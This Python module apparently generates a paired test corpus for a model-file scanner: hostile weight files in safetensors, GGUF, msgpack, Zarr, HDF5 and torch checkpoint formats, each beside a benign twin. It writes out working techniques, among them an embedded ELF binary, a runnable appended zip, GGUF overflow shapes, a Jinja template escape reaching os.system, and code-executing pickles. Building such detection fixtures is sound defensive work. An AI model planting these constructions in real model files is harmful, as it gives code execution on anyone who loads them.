"""Weights as data: safetensors, GGUF, msgpack, Zarr and HDF5 that are more than numbers."""

from __future__ import annotations

import json
import struct

import msgpack
import numpy as np

from assembly import call, dot, glob, model, pickle
from pair import CODE
from seventh.kerases import hdf5
from seventh.kit import elf, floats, gguf, layer, safetensors, second, state, torch_zip, zipped


def add(out):
    def one(name, hostile, twin, file, prove=None, why=""):
        out.add("weights", name, hostile, twin, prove, file, why)

    # safetensors: what the header leaves out, says twice, or is followed by.
    layers = [layer("enc.weight", 16, 8), layer("enc.bias", 1, 16, 3), layer("dec.weight", 8, 16, 5)]
    one(
        "program_between_tensors",
        safetensors(layers, gap=elf() + bytes(-len(elf()) % 64)),
        safetensors(layers),
        "model.safetensors",
        why="a Linux program lies in a hole that no tensor claims; the format allows no holes",
    )
    body = layers[0][3] + layers[1][3] + layers[2][3]
    twice = b'{"enc.weight":{"dtype":"F32","shape":[16,8],"data_offsets":[0,512]},"enc.bias":{"dtype":"F32","shape":[1,16],"data_offsets":[512,576]},"dec.weight":{"dtype":"F32","shape":[8,16],"data_offsets":[576,1088]},"enc.weight":{"dtype":"F32","shape":[16,8],"data_offsets":[576,1088]}}'
    one(
        "tensor_named_twice",
        safetensors([("x", "F32", [272], body)], header=twice),
        safetensors(layers),
        "model.safetensors",
        why="two readers of the same file see two different layers",
    )
    shifted = b'{"a":{"dtype":"F32","shape":[2,4],"data_offsets":[0,32]},"b":{"dtype":"F32","shape":[4,4],"data_offsets":[16,80]}}'
    straight = b'{"a":{"dtype":"F32","shape":[2,4],"data_offsets":[0,32]},"b":{"dtype":"F32","shape":[4,4],"data_offsets":[32,96]}}'
    one(
        "tensors_share_bytes",
        safetensors([("x", "F32", [20], floats(20))], header=shifted),
        safetensors([("x", "F32", [24], floats(24))], header=straight),
        "adapter.safetensors",
        why="the second tensor starts inside the first; the reader must refuse it",
    )
    module = zipped({"__main__.py": f"{CODE}\n"})
    one(
        "zip_of_a_program_at_the_end",
        safetensors(layers, tail=module),
        safetensors(layers, {"format": "pt"}),
        "model.safetensors",
        "python",
        "`python model.safetensors` runs the archive at its end",
    )

    # GGUF: counts and lengths that a C reader multiplies.
    one(
        "dimensions_overflow",
        gguf(tensors=[("token_embd.weight", [1 << 33, 1 << 31, 1 << 2, 1], floats(16))]),
        gguf(tensors=[("token_embd.weight", [4, 2, 2, 1], floats(16))]),
        "model.gguf",
        why="the shape of CVE-2025-53630: the product of the sides wraps round",
    )
    one(
        "pair_count_beyond_memory",
        gguf(counts=(2, 1 << 60)),
        gguf(counts=(2, 7)),
        "model.gguf",
        why="the count times the size of a pair wraps round in older readers",
    )
    long = b"tokenizer.ggml.tokens"
    array = struct.pack("<Q", len(long)) + long + struct.pack("<IIQ", 9, 8, 2) + struct.pack("<Q", 0xFFFFFFFFFFFFFFF0) + b"<s>"
    fair = (
        struct.pack("<Q", len(long)) + long + struct.pack("<IIQ", 9, 8, 2) + struct.pack("<Q", 3) + b"<s>" + struct.pack("<Q", 4) + b"</s>"
    )

    def by_hand(pair):
        head = (
            b"GGUF" + struct.pack("<IQQ", 3, 0, 2) + struct.pack("<Q", 20) + b"general.architecture" + struct.pack("<IQ", 8, 5) + b"llama"
        )
        return head + pair + bytes(-(len(head) + len(pair)) % 32)

    one(
        "token_longer_than_the_file",
        by_hand(array),
        by_hand(fair),
        "vocab.gguf",
        why="length plus one is zero: a heap overflow in readers that add before they check",
    )
    escape = "{%- for m in messages -%}{{ m.content }}{%- endfor -%}{%- set a, b = '__glo', 'bals__' -%}{{ (joiner.__init__|attr(a ~ b))['o' ~ 's'].system('touch marker') }}"
    loop = "{%- for m in messages -%}{%- set a, b = '<|im_', 'start|>' -%}{{ a ~ b ~ m['ro' ~ 'le'] }}{{ m.content }}{%- endfor -%}"
    plain = "{%- for m in messages -%}{{ m.role }}: {{ m.content }}\n{%- endfor -%}"
    one(
        "second_named_template_escapes",
        gguf({"tokenizer.chat_template": plain, "tokenizer.chat_templates": ["tool_use"], "tokenizer.chat_template.tool_use": escape}),
        gguf({"tokenizer.chat_template": plain, "tokenizer.chat_templates": ["tool_use"], "tokenizer.chat_template.tool_use": loop}),
        "model.gguf",
        "gguf.template:tokenizer.chat_template.tool_use",
        "the default template is plain, the one for tools reaches os",
    )

    # msgpack, Zarr, HDF5: objects that a codec unpickles.
    wicked = pickle(model(call(dot("code", "InteractiveInterpreter.runsource"), call(glob("code", "InteractiveInterpreter")), CODE)))
    kinds = np.dtype([("a", "<f4"), ("b", "<i4")])

    def packed(record):
        tree = {
            "params": {
                "dense": {"kernel": {b"nd": True, b"type": "<f4", b"kind": b"", b"shape": (4, 4), b"data": floats(16)}, "classes": record}
            }
        }
        return msgpack.packb(tree, use_bin_type=True)

    one(
        "msgpack_numpy_of_objects",
        packed({b"nd": True, b"type": "|O", b"kind": b"O", b"shape": (1,), b"data": wicked}),
        packed({b"nd": True, b"type": [["a", "<f4"], ["b", "<i4"]], b"kind": b"V", b"shape": (1,), b"data": np.zeros(1, kinds).tobytes()}),
        "flax_model.msgpack",
        "msgpack_numpy",
        "msgpack-numpy hands the data of kind O to pickle; the twin's record is of numbers",
    )

    def zarr(codec, chunk):
        array = {
            "zarr_format": 2,
            "shape": [2],
            "chunks": [2],
            "dtype": "|O",
            "compressor": None,
            "fill_value": 0,
            "order": "C",
            "filters": [codec],
        }
        kernel = {**array, "shape": [16], "chunks": [16], "dtype": "<f4", "filters": None}
        return {
            "classes/0": chunk,
            ".zgroup": '{"zarr_format": 2}',
            "classes/.zarray": json.dumps(array),
            "kernel/.zarray": json.dumps(kernel),
            "kernel/0": floats(16),
        }

    words = struct.pack("<I", 2) + b"".join(struct.pack("<I", len(w)) + w for w in (b"cat", b"dog"))
    one(
        "zarr_chunk_is_a_pickle",
        zarr({"id": "pickle", "protocol": 4}, wicked),
        zarr({"id": "vlen-utf8"}, words),
        None,
        "zarr",
        "numcodecs' pickle filter decodes the chunk, which has no extension",
    )
    old = b"cposix\nsystem\n(S'touch marker'\ntR."
    one(
        "pytables_attribute_is_a_pickle",
        hdf5(
            lambda f: (
                f.attrs.__setitem__("PYTABLES_FORMAT_VERSION", np.bytes_("2.1")),
                f.create_dataset("w", data=np.arange(4.0)).attrs.__setitem__("scaler", np.bytes_(old)),
            )
        ),
        hdf5(
            lambda f: (
                f.attrs.__setitem__("PYTABLES_FORMAT_VERSION", np.bytes_("2.1")),
                f.create_dataset("w", data=np.arange(4.0)).attrs.__setitem__(
                    "scaler", np.bytes_(b"(standard scaler, fitted on 3 columns.")
                ),
            )
        ),
        "weights.h5",
        "attributes",
        "PyTables tries text that ends in a full stop as a pickle",
    )
    checkpoint = torch_zip(second(pickle(state(("note", call(glob("cProfile", "run"), CODE))))))
    calm = torch_zip(second(pickle(state(("note", "step 100")))))
    one(
        "orbax_folder_with_a_torch_shard",
        {
            "default/aux.0": checkpoint,
            "_CHECKPOINT_METADATA": '{"item_handlers": "orbax.checkpoint.PyTreeCheckpointHandler", "init_timestamp_nsecs": 1}',
            "default/_METADATA": '{"tree_metadata": {}, "use_zarr3": false}',
        },
        {
            "default/aux.0": calm,
            "_CHECKPOINT_METADATA": '{"item_handlers": "orbax.checkpoint.PyTreeCheckpointHandler", "init_timestamp_nsecs": 1}',
            "default/_METADATA": '{"tree_metadata": {}, "use_zarr3": false}',
        },
        None,
        "torch",
        "one file of a checkpoint folder is a torch archive without an extension",
    )
